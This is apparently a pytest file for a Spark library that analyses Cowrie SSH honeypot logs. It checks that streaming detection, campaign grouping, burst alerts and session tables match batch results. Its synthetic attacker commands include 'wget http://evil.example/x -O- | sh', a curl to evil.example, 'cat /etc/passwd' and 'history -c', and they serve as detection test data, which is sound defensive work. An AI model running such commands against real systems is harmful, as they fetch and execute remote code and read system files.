"""Streams against batch results: mapping, groups, bursts."""

import datetime as dt
import json
import random
from pathlib import Path
from types import SimpleNamespace

import pandas as pd
import pytest
from pyspark.sql import functions as F

from siltstream.operators import detect as D
from siltstream.operators import rules as R
from siltstream.operators import sessions as S
from siltstream.sources.log import read_events
from siltstream.operators import campaigns as C
from siltstream.operators.graph import component_changes, connected_components
from siltstream.operators.totals import running_total
from siltstream.streaming.bursts import STATE_STORE, exact_bursts
from siltstream.streaming.buckets import Buckets, Part
from siltstream.streaming.groups import Groups, regroup
from siltstream.streaming.live import FIELDS, LiveSessions, live_sessions, pieces as spilled_pieces, spill_stream
from siltstream.streaming.mapped import MappedLog, map_stream

SOME = R.RULES[::6]  # what is tested here is which sessions are mapped
MATCH = ["session_id", "rule", "technique", "confidence", "evidence", "tactics"]


def rows(df, *names):
    return sorted(map(tuple, df.select(*names).collect()), key=str)


def entry(session, second, kind, **more):
    return json.dumps({"src_ip": "203.0.113.7", "session": session, "eventid": f"cowrie.{kind}", "timestamp": f"2026-10-05T07:{second // 60:02d}:{second % 60:02d}.000000Z", **more})


def files_of(path):
    """Data files of each bucket, with the time of their last change."""
    out = {}
    for f in Path(path).glob("*/_bucket=*/*.parquet"):
        out.setdefault((f.parts[-3], int(f.parts[-2].split("=")[1])), set()).add((f.name, f.stat().st_mtime_ns))
    return out


@pytest.fixture(scope="module")
def pieces():
    """Lines of 30 sessions in three files: most sessions lie in one, some in all; one file repeats lines of another."""
    r = random.Random(2)
    commands = ["uname -a", "cat /etc/passwd", "wget http://evil.example/x -O- | sh", "echo hi", "crontab -l", "curl http://evil.example/y", "history -c"]
    files = [[], [], []]
    for k in range(30):
        name = f"s{k:02d}"
        own = [entry(name, k, "session.connect")]
        own += [entry(name, k + i, "login.failed", username="root", password=f"p{i}") for i in range(r.choice([0, 2, 4, 11]))]
        own += [entry(name, k + 20, "login.success", username=r.choice(["root", "someone"]), password="x")] if r.random() < 0.6 else []
        own += [entry(name, k + 30 + i, "command.input", input=r.choice(commands)) for i in range(r.randint(0, 4))]
        own += [entry(name, k + 50, "session.file_download", url=f"http://evil.example/{k}", shasum=f"{k:064x}")] if k % 5 == 0 else []
        for at, one in enumerate(own):
            files[at % 3 if k % 4 == 0 else 0 if k < 24 else 2].append(one)
    files[2] += files[0][:10]
    return files


def test_incremental_mapping_equals_batch(spark, pieces, tmp_path):
    source, store = tmp_path / "in", tmp_path / "store"
    source.mkdir()
    log = MappedLog(spark, f"file://{store}", R.catalog(spark), SOME, buckets=16)
    before = {}
    for i, part in enumerate(pieces):
        (source / f"{i}.json").write_text("\n".join(part) + "\n")
        map_stream(spark, str(source), log, f"file://{tmp_path}/checkpoint").awaitTermination()
        batch = S.store_events(read_events(spark, str(source))[0])
        expected = D.map_sessions({n: t.withColumn("ord", F.lit(0).cast("long")) if n != "sessions" and n != "logins" else t for n, t in batch.items()}, R.catalog(spark), SOME)
        assert rows(log.read("matches"), *MATCH) == rows(expected, *MATCH)
        assert rows(log.read("fetches"), "session_id", "url", "tool") == rows(D.session_fetches(batch["commands"]), "session_id", "url", "tool")
        for n in S.CAPS:
            names = ["session_id", "ts", *S.KEYS[n]]
            assert rows(log.read(n), *names) == rows(batch[n], *names)
        now = files_of(store)
        touched = {json.loads(x)["session"] for x in part}
        buckets = set(log.store.touched(spark.createDataFrame([(t,) for t in touched], "id string"), "id"))
        changed = {b for (_, b), files in now.items() if before.get((_, b)) != files}
        assert changed <= buckets
        if i == 1:
            assert buckets < set(range(16)) and 0 < len(changed) < len({b for _, b in now})  # not all were rewritten
        before = now


def test_repeated_batch_and_new_rules(spark, pieces, tmp_path):
    """A repeated batch maps nothing; rules of a new version map everything again."""
    (tmp_path / "a.json").write_text("\n".join(pieces[0]) + "\n")
    batch = {n: t.withColumn("ord", F.monotonically_increasing_id()) if n != "sessions" else t for n, t in S.store_events(read_events(spark, str(tmp_path / "a.json"))[0]).items()}
    path = f"file://{tmp_path}/store"
    log = MappedLog(spark, path, R.catalog(spark), SOME, buckets=4)
    n = log.add(batch)
    first = rows(log.read("matches"), *MATCH)
    assert n == batch["sessions"].count() and log.add(batch) == 0
    assert rows(log.read("matches"), *MATCH) == first
    fewer = MappedLog(spark, path, R.catalog(spark), rules=SOME[:5], version="2", buckets=4)
    assert fewer.remap(at_once=3) == n and fewer.remap() == 0
    left = rows(fewer.read("matches"), *MATCH)
    names = {r[0] for r in SOME[5:]}
    assert left == [m for m in first if m[1] not in names]


def test_caps_hold_over_batches(spark):
    schema = "session_id string, ord long, ts timestamp, url string, sha256 string"
    old = spark.createDataFrame([("a", i, None, f"u{i}", None) for i in range(150)], schema)
    new = spark.createDataFrame([("a", 1000 + i, None, f"u{i + 100}", None) for i in range(150)], schema)
    out = S.merge_capped(old, new, "downloads")
    assert out.count() == 200
    kept = {r.url for r in out.collect()}
    assert kept == {f"u{i}" for i in range(200)}


def test_buckets_after_a_failure(spark, tmp_path):
    """Content that was written whole is put in place when the store is opened again; half of it is dropped."""
    path = f"file://{tmp_path}/store"
    make = lambda x: spark.createDataFrame([(k, x) for k in range(20)], "id long, v string")
    store = Buckets(spark, path, 4)
    store.write({"t": Part(make("old"), "id", range(4))})
    store.commit()
    store.write({"t": Part(make("new"), "id", range(4))})
    assert {r.v for r in Buckets(spark, path, 4).read("t").collect()} == {"old"}
    store.write({"t": Part(make("new"), "id", range(4))})
    (tmp_path / "store" / "_waiting" / "_whole").touch()
    assert rows(Buckets(spark, path, 4).read("t"), "id", "v") == rows(make("new"), "id", "v")
    store.write({"t": Part(make("new").where("id > 100"), "id", [1])})
    store.commit()
    assert 1 not in store.touched(store.read("t"), "id") and len(store.touched(store.read("t"), "id")) == 3


def partition_of(df):
    groups = {}
    for node, root in df.select("node", "root").collect():
        groups.setdefault(root, set()).add(node)
    return {root: g for root, g in groups.items() if len(g) > 1}


def test_groups_equal_a_full_build(spark, tmp_path):
    """Edges come and go in batches; after each the stored roots are those of a full build, and what changed lies in the touched groups."""
    r = random.Random(6)
    groups = Groups(spark, f"file://{tmp_path}/groups", buckets=8)
    now, before = set(), {}
    for step in range(5):
        gone = set(r.sample(sorted(now), 3)) if step in (2, 4) else set()
        new = {tuple(sorted(r.sample(range(60), 2), reverse=r.random() < 0.5)) for _ in range(8 if step else 20)} - now - {(b, a) for a, b in now}
        now = (now - gone) | new
        frame = spark.createDataFrame([*now, (5, 5), (None, 3)], "a long, b long")
        changes = {r.node: r.root for r in groups.update(frame).collect()}
        full = partition_of(connected_components(frame))
        assert partition_of(groups.read()) == full
        was = {n: g for g in before.values() for n in g}
        is_now = {n: g for g in full.values() for n in g}
        bound = {m for pair in gone | new for n in pair for m in was.get(n, {n}) | is_now.get(n, {n})}
        assert set(changes) <= bound
        before = full
    assert groups.update(frame).count() == 0  # nothing new: nothing is rewritten


def test_changes_without_removals(spark):
    roots = spark.createDataFrame([(1, 1), (2, 1), (7, 7), (9, 7)], "node long, root long")
    added = spark.createDataFrame([(9, 2), (20, 21), (9, 9)], "a long, b long")
    assert rows(component_changes(roots, added), "node", "root") == [(20, 20), (21, 20), (7, 1), (9, 1)]


def test_regroup_equals_campaigns(spark, pieces, tmp_path):
    """Campaigns of a log that grows in batches are those of a full build."""
    log, groups = MappedLog(spark, f"file://{tmp_path}/store", R.catalog(spark), SOME, buckets=4), Groups(spark, f"file://{tmp_path}/groups", buckets=4)
    for i, part in enumerate(pieces[:2]):
        (tmp_path / f"{i}.json").write_text("\n".join(part) + "\n")
        batch = S.store_events(read_events(spark, str(tmp_path / f"{i}.json"))[0])
        log.add({n: t if n == "sessions" else t.withColumn("ord", F.unix_micros("ts")) for n, t in batch.items()})
        members = regroup(log, groups)
        tables = {n: log.read(n) for n in ("sessions", *S.CAPS)}
        full = C.campaign_members(C.session_features(tables, log.read("fetches")), tables["sessions"])
        assert members.count() > 3 and rows(members, "session_id", "campaign") == rows(full, "session_id", "campaign")


def test_running_total(spark):
    """Against a loop, with ties of the value, nulls and more ranges than rows have values."""
    r = random.Random(1)
    data = [(r.randint(2, 5), f"k{i:03d}", r.choice([0, 1, 3, 10, None])) for i in range(300)]
    out = running_total(spark.createDataFrame(data, "size int, key string, n long").repartition(7), "n", ["size", "key"], "upto", ranges=13)
    total, expected = 0, []
    for size, key, n in sorted(data, key=lambda x: x[:2]):
        total += n or 0
        expected.append((size, key, total))
    assert sorted(map(tuple, out.select("size", "key", "upto").collect())) == expected


def test_pair_budget(spark):
    """Keys of one size tie at the budget's end: the smaller key is taken."""
    features = [(f"s{s}", f"login:{k}", 3.0) for k, members in {"a": (1, 2), "b": (3, 4), "c": (5, 6), "d": (7, 8, 9)}.items() for s in members]
    features += [(s, k.replace("login", "client"), 2.0) for s, k, _ in features]
    df = spark.createDataFrame(features, "session_id string, key string, weight double")
    order = spark.createDataFrame([(f"s{i}", i) for i in range(1, 10)], "id string, label int")
    pairs = lambda budget: rows(C.link_edges(df, order, budget), "a", "b")
    weights = {}
    sizes = {}
    for _, k, _ in features:
        sizes[k] = sizes.get(k, 0) + 1
    for budget in (0, 1, 3, 4, 5, 6, 9, 12):
        upto, taken = 0, set()
        for k in sorted(sizes, key=lambda k: (sizes[k], k)):
            upto += sizes[k] * (sizes[k] - 1) // 2
            if upto <= budget:
                taken.add(k)
        weights = {}
        for s, k, w in features:
            for t, other, _ in features:
                if k in taken and k == other and s < t:
                    weights[s, t] = weights.get((s, t), 0) + w
        assert pairs(budget) == sorted(p for p, w in weights.items() if w >= 5)


@pytest.mark.parametrize("split", [1, 4])
def test_exact_bursts_equal_batch(spark, tmp_path, split):
    """Whatever the split into batches, and out of order within the watermark's delay; state goes once a source is idle."""
    r = random.Random(split)
    start = dt.datetime(2026, 10, 5, 7, 0, 0)
    events, t = [], 0.0
    for _ in range(400):
        t += r.choice([0, 0.3, 1, 5, 20, 90])
        ip = r.choice(["203.0.113.7", "203.0.113.8", None])
        kind, said = r.choice([("cowrie.login.failed", None), ("cowrie.login.failed", None), ("cowrie.command.input", "uname -a"), ("cowrie.command.input", "echo hi")])
        events.append((ip, start + dt.timedelta(seconds=t), kind, said))
    schema = "src_ip string, ts timestamp, eventid string, input string"
    found = spark.createDataFrame([("uname -a",)], "input string")
    whole = spark.createDataFrame(events, schema).withColumn("ord", F.monotonically_increasing_id())
    batch = D.frequency_alerts(whole, found).groupBy("src_ip", F.unix_seconds(F.date_trunc("second", "ts")).alias("s"), "alert", "n").agg(F.count(F.lit(1)).alias("events"))
    # neighbours change places, across batches too; the last event, of another source, moves the watermark past all
    shuffled = sorted(events, key=lambda e: (e[1] + dt.timedelta(seconds=r.uniform(-200, 200))))
    last = ("198.51.100.1", start + dt.timedelta(days=2), "cowrie.login.failed", None)
    size = -(-len(shuffled) // split)
    batches = [shuffled[i : i + size] for i in range(0, len(shuffled), size)] + [[last]]
    for i, part in enumerate(batches):
        spark.createDataFrame(part, schema).coalesce(1).write.parquet(f"{tmp_path}/in/{i}")
    spark.conf.set("spark.sql.streaming.stateStore.providerClass", STATE_STORE)
    try:
        stream = spark.readStream.schema(schema).option("maxFilesPerTrigger", 1).parquet(f"{tmp_path}/in/*")
        out = exact_bursts(stream, found, "20 minutes")
        q = out.writeStream.format("parquet").option("checkpointLocation", f"{tmp_path}/check").option("path", f"{tmp_path}/out").trigger(availableNow=True).start()
        q.awaitTermination()
        left = q.lastProgress["stateOperators"][0]["numRowsTotal"]
    finally:
        spark.conf.unset("spark.sql.streaming.stateStore.providerClass")
    names = ["src_ip", "s", "alert", "n", "events"]
    live = rows(spark.read.parquet(f"{tmp_path}/out"), *names)
    assert len(live) > 25 and live == rows(batch, *names)
    assert left <= 5  # of the last event's source only


EVENT = "session string, eventid string, ts timestamp, src_ip string, username string, password string, input string, url string, shasum string, filename string, destfile string, dst_ip string, dst_port int, orig_ip string, orig_port int, version string, hassh string, duration_ms long, ord long"
SESSION = ["id", "src_ip", "start_time", "end_time", "duration_ms", "client_version", "hassh", "internal"]


def event(session, second, kind, ord, **more):
    ts = None if second is None else dt.datetime(2026, 10, 5, 7, 0, 0) + dt.timedelta(seconds=second)
    row = {"session": session, "eventid": f"cowrie.{kind}", "ts": ts, "src_ip": "203.0.113.7", "ord": ord, **more}
    return tuple(row.get(c.split()[0]) for c in EVENT.split(", "))


def live_batches(seed):
    """Sessions whose events are spread over four batches and out of order, and one event long after all of them."""
    r = random.Random(seed)
    events = []
    for k in range(25):
        name, at = f"s{k:02d}", k * 7
        own = [("session.connect", {}), ("client.version", {"version": r.choice(["SSH-2.0-Go", None])}), ("client.kex", {"hassh": f"{k:032x}"})]
        own += [("login.failed", {"username": "root", "password": r.choice(["a", "b", None])}) for _ in range(r.randint(0, 6))]
        own += [("command.input", {"input": r.choice(["id", "uname -a", None, ""])}) for _ in range(r.randint(0, 5))]
        own += [("session.file_download", {"url": r.choice(["http://e.example/x", ""]), "shasum": f"{k:064x}"}), ("session.file_upload", {"filename": None, "destfile": "/tmp/x"}), ("direct-tcpip.request", {"dst_ip": "192.0.2.1", "dst_port": r.choice([80, None])})]
        own += [("session.closed", {"duration_ms": 1234})] if k % 3 else []
        own = [(None if r.random() < 0.05 else at + r.randint(0, 3), kind, {**more, "src_ip": r.choice([None, "203.0.113.9"])}) for kind, more in own]
        events += [(r.random(), name, *e) for e in own] + [(r.random(), name, *own[-1])]
    events.sort(key=lambda e: e[0])
    rows_ = [event(s, sec, kind, i, **more) for i, (_, s, sec, kind, more) in enumerate(events)]
    size = -(-len(rows_) // 4)
    return [rows_[i : i + size] for i in range(0, len(rows_), size)], event("last", 10**6, "session.connect", 10**6)


def run_live(spark, batches, tmp_path, sink, **options):
    for i, part in enumerate(batches):
        spark.createDataFrame(part, EVENT).coalesce(1).write.parquet(f"{tmp_path}/in/{i}")
    stream = spark.readStream.schema(EVENT).option("maxFilesPerTrigger", 1).parquet(f"{tmp_path}/in/*")
    spark.conf.set("spark.sql.streaming.stateStore.providerClass", STATE_STORE)
    try:
        q = sink(stream, options)
        q.awaitTermination()
        return [sum(o["numRowsTotal"] for o in p["stateOperators"]) for p in q.recentProgress]
    finally:
        spark.conf.unset("spark.sql.streaming.stateStore.providerClass")


def test_live_sessions_equal_batch(spark, tmp_path):
    """Pieces over several batches: the tables are those of all events at once, and state ends with the sessions."""
    batches, last = live_batches(5)
    def sink(stream, options):
        out = live_sessions(stream, order=("ord",), **options)
        return out.writeStream.format("parquet").option("checkpointLocation", f"{tmp_path}/check").option("path", f"{tmp_path}/out").trigger(availableNow=True).start()

    held = run_live(spark, [*batches, [last]], tmp_path, sink, delay="2 hours")
    live = spilled_pieces(spark.read.parquet(f"{tmp_path}/out"))
    whole = S.store_events(spark.createDataFrame([e for b in batches for e in b], EVENT))
    assert rows(live["sessions"], *SESSION) == rows(whole["sessions"], *SESSION)
    for n in S.CAPS:
        names = ["session_id", "ts", *S.ROW[n]]
        assert rows(live[n], *names) == rows(whole[n], *names) and live[n].count() > 0
        order = lambda t: [tuple(x) for x in t.orderBy("session_id", "ord").select("session_id", *S.ROW[n]).collect()]  # noqa: B023, E731
        assert order(live[n]) == order(whole[n])
    assert max(held) >= 2 * 25 and held[-1] <= 2  # a row and a list each; then the last event's session only


def test_live_sessions_late_pieces(spark, tmp_path):
    """Events that come after their session was spilled are one more piece of it; merged, nothing is lost or doubled."""
    batches, last = live_batches(8)
    log = MappedLog(spark, f"file://{tmp_path}/store", R.catalog(spark), SOME, buckets=4)
    # the first of these moves the watermark, in the batch of the second what is held is spilled; all that follows is late
    far = [[event("far", 5 * 10**5 + i, "session.connect", 5 * 10**5 + i)] for i in range(2)]
    late = [*batches[:2], *far, *batches[2:], [last]]
    run_live(spark, late, tmp_path, lambda stream, options: spill_stream(spark, stream, log, f"{tmp_path}/check", order=("ord",), **options), delay="1 hour")
    parts = [[e for b in batches[:2] for e in b], [e for b in batches[2:] for e in b]]
    whole = S.store_events(spark.createDataFrame(parts[0] + parts[1], EVENT))
    for n in S.CAPS:
        names = ["session_id", "ts", *S.KEYS[n]]
        assert rows(log.read(n), *names) == rows(whole[n], *names)
    two = [S.summarise_sessions(spark.createDataFrame(p, EVENT)) for p in parts]
    merged = S.merge_sessions(*two)
    own = log.read("sessions").where("id not in ('far', 'last')")
    assert rows(own, "id", "src_ip", "start_time", "end_time") == rows(merged, "id", "src_ip", "start_time", "end_time")


class Held:
    """State of one key in memory, as the processor sees it."""

    def __init__(self):
        self.value, self.items, self.timers = None, [], set()

    def getValueState(self, *_):
        return self

    getListState = getValueState

    def exists(self):
        return self.value is not None or bool(self.items)

    def get(self):
        return self.items or self.value

    def update(self, value):
        self.value = value

    def appendList(self, items):
        self.items += items

    def clear(self):
        self.value, self.items = None, []

    def registerTimer(self, at):
        self.timers.add(at)

    def deleteTimer(self, at):
        self.timers.remove(at)


def test_live_sessions_cap(spark):
    """A session beyond its caps keeps the rows that arrived first; its state holds no more than those, and one timer."""
    n = S.CAPS["downloads"] + 50
    events = [event("a", i % 50, "session.file_download", n - i, url=f"http://e.example/{i}", shasum="x") for i in range(n)]
    own, listed = Held(), Held()
    live = LiveSessions(60, 3600, 1)
    live.handle, live.own, live.rows = own, own, listed
    clock = SimpleNamespace(getCurrentWatermarkInMs=lambda: 0)
    frame = S.event_rows(spark.createDataFrame(events, EVENT)).withColumns({"us": F.unix_micros("ts").cast("string"), "o0": F.col("ord")}).toPandas()
    for part in (frame[100:], frame[:100]):  # places within a batch tell the order, whatever order rows are handed in
        assert list(live.handleInputRows(("a",), iter([part]), clock)) == []
    assert len(listed.items) == S.CAPS["downloads"] and len(own.timers) == 1
    out = pd.concat(live.handleExpiredTimer(("a",), clock, None))
    arrived = [*reversed(range(100, n)), *reversed(range(100))][: S.CAPS["downloads"]]
    assert list(out.row_url[1:]) == [f"http://e.example/{i}" for i in arrived]
    assert not own.exists() and not listed.exists()


def test_live_fields():
    assert set(FIELDS) == {c for columns in S.ROW.values() for c in columns}
